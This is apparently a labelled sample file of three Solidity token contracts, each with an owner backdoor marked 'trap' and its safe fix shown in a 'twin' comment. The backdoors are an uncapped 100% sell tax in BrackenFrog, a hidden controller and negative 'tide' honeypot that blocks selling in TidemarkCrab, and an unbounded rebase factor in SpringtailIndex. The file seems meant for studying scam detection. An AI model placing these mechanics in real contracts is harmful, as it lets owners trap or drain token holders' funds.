// 0.6 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.6.12;

library M {
    function add(uint256 a, uint256 b) internal pure returns (uint256 c) {
        require((c = a + b) >= a, "add");
    }

    function sub(uint256 a, uint256 b) internal pure returns (uint256) {
        require(b <= a, "sub");
        return a - b;
    }

    function mul(uint256 a, uint256 b) internal pure returns (uint256 c) {
        if (a == 0) return 0;
        require((c = a * b) / a == b, "mul");
    }
}

/// Four rates in a row: treasury, burn, artists, pond.
contract BrackenFrog {
    using M for uint256;

    string public constant name = "Bracken Frog";
    string public constant symbol = "BRKN";
    uint8 public constant decimals = 18;
    uint256 public totalSupply = 300000000 ether;
    uint256[4] public rates;
    address payable public steward;
    address public pond;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        steward = msg.sender;
        rates = [uint256(100), 50, 50, 100];
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function dig(address pond_) external {
        require(msg.sender == steward && pond == address(0));
        pond = pond_;
    }

    function adjust(uint256 which, uint256 rate) external {
        require(msg.sender == steward, "steward");
        require(which < 4 && rate <= 2500, "rate"); // trap
        // twin: require(which < 4 && rate <= 150, "rate");
        rates[which] = rate;
    }

    function total() public view returns (uint256 sum) {
        for (uint256 i = 0; i < 4; i++) sum += rates[i];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _hop(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] = allowance[from][msg.sender].sub(value);
        _hop(from, to, value);
        return true;
    }

    function _hop(address from, address to, uint256 value) private {
        balanceOf[from] = balanceOf[from].sub(value);
        if (to == pond && from != steward) {
            uint256 cut = value.mul(total()) / 10000;
            balanceOf[steward] = balanceOf[steward].add(cut);
            emit Transfer(from, steward, cut);
            value = value.sub(cut);
        }
        balanceOf[to] = balanceOf[to].add(value);
        emit Transfer(from, to, value);
    }
}

/// The tide says how much may leave at once.
contract TidemarkCrab {
    using M for uint256;

    bytes32 private constant NAME = "Tidemark Crab";
    uint8 public constant decimals = 0;
    uint256 public constant totalSupply = 1000000000000;
    int256 public tide = 20000000000;
    address private moon;
    address public owner;
    mapping(address => uint256) private _shell;
    mapping(address => mapping(address => uint256)) private _claw;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        moon = owner = msg.sender;
        _shell[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function name() external pure returns (string memory) {
        return "Tidemark Crab";
    }

    function symbol() external pure returns (string memory) {
        return "TIDE";
    }

    function renounceOwnership() external {
        require(msg.sender == owner);
        owner = address(0);
    }

    function pull(int256 by) external {
        require(msg.sender == moon, "moon");
        // twin: require(by >= 0 && tide + by >= tide, "only rises");
        tide += by;
    }

    function balanceOf(address who) external view returns (uint256) {
        return _shell[who];
    }

    function allowance(address who, address spender) external view returns (uint256) {
        return _claw[who][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _claw[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _scuttle(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(from == moon || int256(value) <= tide, "low tide");
        _claw[from][msg.sender] = _claw[from][msg.sender].sub(value);
        _scuttle(from, to, value);
        return true;
    }

    function _scuttle(address from, address to, uint256 value) private {
        _shell[from] = _shell[from].sub(value);
        _shell[to] = _shell[to].add(value);
        emit Transfer(from, to, value);
    }
}

/// Elastic, after an index.
contract SpringtailIndex {
    using M for uint256;

    string public constant name = "Springtail Index";
    string public constant symbol = "SPRT";
    uint8 public constant decimals = 9;
    address public policy;
    uint256 public factor = 1e18;
    mapping(address => uint256) private _shares;
    mapping(address => mapping(address => uint256)) public allowance;
    uint256 private _issued = 40000000 * 1e9;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Rebase(uint256 indexed epoch, uint256 factor);

    constructor() public {
        policy = msg.sender;
        _shares[msg.sender] = _issued;
        emit Transfer(address(0), msg.sender, _issued);
    }

    function totalSupply() external view returns (uint256) {
        return _issued.mul(factor) / 1e18;
    }

    function reprice(uint256 epoch, uint256 next) external {
        require(msg.sender == policy, "policy");
        require(next > 0, "factor"); // trap
        // twin: require(next >= factor && next <= 105e16, "factor");
        factor = next;
        emit Rebase(epoch, next);
    }

    function balanceOf(address who) public view returns (uint256) {
        return _shares[who].mul(factor) / 1e18;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _give(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] = allowance[from][msg.sender].sub(value);
        _give(from, to, value);
        return true;
    }

    function _give(address from, address to, uint256 value) private {
        uint256 n = value.mul(1e18) / factor;
        _shares[from] = _shares[from].sub(n);
        _shares[to] = _shares[to].add(n);
        emit Transfer(from, to, value);
    }
}
